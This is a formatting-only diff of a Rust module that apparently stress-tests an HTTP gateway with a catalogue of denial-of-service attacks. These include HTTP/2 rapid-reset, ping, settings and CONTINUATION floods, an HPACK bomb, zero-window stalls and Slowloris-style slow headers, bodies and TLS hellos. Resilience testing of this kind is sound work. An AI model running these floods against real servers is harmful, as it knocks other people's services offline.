@@ -9,8 +9,8 @@ use std::time::Duration;
 use crate::client::{Stream, Target};
 use crate::failure::Failure;
 use crate::http2::{
-    self, CONTINUATION, DATA, END_STREAM, HEADERS, LAST, NO_WINDOW, PING, PRIORITY, RST_STREAM, SETTINGS, UNKNOWN,
-    WINDOW_UPDATE, frame, remembered, request,
+    self, CONTINUATION, DATA, END_STREAM, HEADERS, LAST, NO_WINDOW, PING, PRIORITY, RST_STREAM,
+    SETTINGS, UNKNOWN, WINDOW_UPDATE, frame, remembered, request,
 };
 
 pub(super) struct Attack {
@@ -25,7 +25,11 @@ const fn attack(
     attackers: usize,
     run: fn(&Target, usize, &AtomicBool) -> Result<(), Failure>,
 ) -> Attack {
-    Attack { name, attackers, run }
+    Attack {
+        name,
+        attackers,
+        run,
+    }
 }
 
 pub(super) const ATTACKS: &[Attack] = &[
@@ -41,7 +45,9 @@ pub(super) const ATTACKS: &[Attack] = &[
     attack("key-updates", 4, key_updates),
     attack("large-heads", 4, large_heads),
     attack("refusals", 4, refusals),
-    attack("h2-refusals", 4, |target, _, stop| flood(target, stop, &[], |id| strangers_request(target, id))),
+    attack("h2-refusals", 4, |target, _, stop| {
+        flood(target, stop, &[], |id| strangers_request(target, id))
+    }),
     attack("h2-rapid-reset", 4, |target, _, stop| {
         flood(target, stop, &[], |id| {
             let mut frames = headers(target, id, END_STREAM);
@@ -61,24 +67,53 @@ pub(super) const ATTACKS: &[Attack] = &[
         // A request that the gateway answers itself: requests that reach the backend delay its other callers by design.
         let mut block = request("TRACE", &target.host, "/", Some(&target.service_key));
         block.extend(remembered("max-forwards", "0"));
-        flood(target, stop, NO_WINDOW, move |id| http2::headers(id, END_STREAM, &block))
+        flood(target, stop, NO_WINDOW, move |id| {
+            http2::headers(id, END_STREAM, &block)
+        })
     }),
     attack("h2-no-window", 2, |target, _, stop| no_window(target, stop)),
-    attack("h2-ping", 4, |target, _, stop| flood(target, stop, &[], |_| frame(PING, 0, 0, &[7; 8]))),
-    attack("h2-settings", 4, |target, _, stop| flood(target, stop, &[], |_| frame(SETTINGS, 0, 0, &[]))),
-    attack("h2-window-updates", 4, |target, _, stop| {
-        flood(target, stop, &[], |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
+    attack("h2-ping", 4, |target, _, stop| {
+        flood(target, stop, &[], |_| frame(PING, 0, 0, &[7; 8]))
     }),
-    attack("h2-priority", 4, |target, _, stop| flood(target, stop, &[], |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]))),
-    attack("h2-unknown", 4, |target, _, stop| flood(target, stop, &[], |_| frame(UNKNOWN, 0, 0, &[]))),
+    attack("h2-settings", 4, |target, _, stop| {
+        flood(target, stop, &[], |_| frame(SETTINGS, 0, 0, &[]))
+    }),
+    attack("h2-window-updates", 4, |target, _, stop| {
+        flood(target, stop, &[], |_| {
+            frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])
+        })
+    }),
+    attack("h2-priority", 4, |target, _, stop| {
+        flood(target, stop, &[], |_| {
+            frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])
+        })
+    }),
+    attack("h2-unknown", 4, |target, _, stop| {
+        flood(target, stop, &[], |_| frame(UNKNOWN, 0, 0, &[]))
+    }),
     attack("h2-empty-data", 4, |target, _, stop| {
-        begun(target, stop, |target| headers_of(target, "POST", "/echo", 1, 0), || frame(DATA, 0, 1, &[]))
+        begun(
+            target,
+            stop,
+            |target| headers_of(target, "POST", "/echo", 1, 0),
+            || frame(DATA, 0, 1, &[]),
+        )
     }),
     attack("h2-tiny-data", 4, |target, _, stop| {
-        begun(target, stop, |target| headers_of(target, "POST", "/echo", 1, 0), || frame(DATA, 0, 1, b"x"))
+        begun(
+            target,
+            stop,
+            |target| headers_of(target, "POST", "/echo", 1, 0),
+            || frame(DATA, 0, 1, b"x"),
+        )
     }),
     attack("h2-continuation", 4, |target, _, stop| {
-        begun(target, stop, |_| frame(HEADERS, 0, 1, &[0x87]), || frame(CONTINUATION, 0, 1, &[]))
+        begun(
+            target,
+            stop,
+            |_| frame(HEADERS, 0, 1, &[0x87]),
+            || frame(CONTINUATION, 0, 1, &[]),
+        )
     }),
     attack("h2-hpack-bomb", 4, |target, _, stop| {
         let bomb = [vec![LAST; 16_000], request("GET", &target.host, "/", None)].concat();
@@ -94,7 +129,9 @@ pub(super) const ATTACKS: &[Attack] = &[
             block.extend([0x00, 1, b'x', 127, 0xe9, 0x07]);
             block.extend(vec![b'y'; 127 + 0x69 + 7 * 128]);
         }
-        flood(target, stop, &[], move |id| http2::headers(id, END_STREAM, &block))
+        flood(target, stop, &[], move |id| {
+            http2::headers(id, END_STREAM, &block)
+        })
     }),
 ];
 
@@ -111,7 +148,11 @@ fn headers(target: &Target, stream: u32, flags: u8) -> Vec<u8> {
 }
 
 fn headers_of(target: &Target, method: &str, path: &str, stream: u32, flags: u8) -> Vec<u8> {
-    http2::headers(stream, flags, &request(method, &target.host, path, Some(&target.service_key)))
+    http2::headers(
+        stream,
+        flags,
+        &request(method, &target.host, path, Some(&target.service_key)),
+    )
 }
 
 fn strangers_request(target: &Target, stream: u32) -> Vec<u8> {
@@ -124,7 +165,12 @@ fn speak_http2(target: &Target, settings: &[u8]) -> Result<Stream, Failure> {
 }
 
 /// Sends `next` for each stream id until the product closes the connection. Reads nothing.
-fn flood(target: &Target, stop: &AtomicBool, settings: &[u8], next: impl Fn(u32) -> Vec<u8>) -> Result<(), Failure> {
+fn flood(
+    target: &Target,
+    stop: &AtomicBool,
+    settings: &[u8],
+    next: impl Fn(u32) -> Vec<u8>,
+) -> Result<(), Failure> {
     let mut id = 1;
     send(speak_http2(target, settings)?, stop, || {
         id += 2;
@@ -144,9 +190,15 @@ fn begun(
     send(stream, stop, more)
 }
 
-fn send(mut stream: Stream, stop: &AtomicBool, mut next: impl FnMut() -> Vec<u8>) -> Result<(), Failure> {
+fn send(
+    mut stream: Stream,
+    stop: &AtomicBool,
+    mut next: impl FnMut() -> Vec<u8>,
+) -> Result<(), Failure> {
     // A write fails soon after the product stops reading.
-    stream.sock.set_write_timeout(Some(Duration::from_secs(1)))?;
+    stream
+        .sock
+        .set_write_timeout(Some(Duration::from_secs(1)))?;
     let sent = (|| {
         while !stop.load(Ordering::Relaxed) {
             let mut chunk = Vec::with_capacity(2 * CHUNK);
@@ -171,7 +223,12 @@ fn drip(
 ) -> Result<(), Failure> {
     let mut streams = (0..count).map(|_| open()).collect::<Result<Vec<_>, _>>()?;
     for byte in drop_by_drop.iter().cycle() {
-        streams.retain_mut(|stream| stream.write_all(&[*byte]).and_then(|()| stream.flush()).is_ok());
+        streams.retain_mut(|stream| {
+            stream
+                .write_all(&[*byte])
+                .and_then(|()| stream.flush())
+                .is_ok()
+        });
         if streams.is_empty() {
             return Err(Failure::new("all ended"));
         }
@@ -185,7 +242,9 @@ fn drip(
 
 fn slow_hello(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
     let hello = target.hello()?;
-    let mut sockets = (0..200).map(|_| target.socket()).collect::<Result<Vec<_>, _>>()?;
+    let mut sockets = (0..200)
+        .map(|_| target.socket())
+        .collect::<Result<Vec<_>, _>>()?;
     for byte in &hello {
         sockets.retain_mut(|socket| socket.write_all(&[*byte]).is_ok());
         if sockets.is_empty() {
@@ -200,19 +259,31 @@ fn slow_hello(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failur
 }
 
 fn slow_heads(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
-    drip(stop, 200, || target.open(&[b"http/1.1"]), b"GET /a HTTP/1.1x")
+    drip(
+        stop,
+        200,
+        || target.open(&[b"http/1.1"]),
+        b"GET /a HTTP/1.1x",
+    )
 }
 
 fn slow_bodies(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
-    let head =
-        |key: &str| format!("POST /echo HTTP/1.1\r\nHost: {}\r\n{key}Content-Length: 1000000\r\n\r\n", target.host);
+    let head = |key: &str| {
+        format!(
+            "POST /echo HTTP/1.1\r\nHost: {}\r\n{key}Content-Length: 1000000\r\n\r\n",
+            target.host
+        )
+    };
     let key = format!("X-Gw-Service-Key: {}\r\n", target.service_key);
     // Fewer than the agent has slots.
     drip(stop, 100, || begin(target, &head(&key)), b"x")
 }
 
 fn slow_bodies_of_strangers(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
-    let head = format!("POST /echo HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n", target.host);
+    let head = format!(
+        "POST /echo HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n",
+        target.host
+    );
     drip(stop, 200, || begin(target, &head), b"x")
 }
 
@@ -225,7 +296,10 @@ fn begin(target: &Target, head: &str) -> Result<Stream, Failure> {
 
 fn slow_reader(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
     let key = &target.service_key;
-    let head = format!("GET /bytes/1000000000 HTTP/1.1\r\nHost: {}\r\nX-Gw-Service-Key: {key}\r\n\r\n", target.host);
+    let head = format!(
+        "GET /bytes/1000000000 HTTP/1.1\r\nHost: {}\r\nX-Gw-Service-Key: {key}\r\n\r\n",
+        target.host
+    );
     let mut stream = begin(target, &head)?;
     while !stop.load(Ordering::Relaxed) {
         stream.read_exact(&mut [0; 100])?;
@@ -316,7 +390,13 @@ fn no_window(target: &Target, stop: &AtomicBool) -> Result<(), Failure> {
     let mut stream = speak_http2(target, NO_WINDOW)?;
     // Together fewer than the agent has slots.
     for number in 0..50 {
-        stream.write_all(&headers_of(target, "GET", "/bytes/1000000000", 2 * number + 1, END_STREAM))?;
+        stream.write_all(&headers_of(
+            target,
+            "GET",
+            "/bytes/1000000000",
+            2 * number + 1,
+            END_STREAM,
+        ))?;
     }
     stream.flush()?;
     while !stop.load(Ordering::Relaxed) {
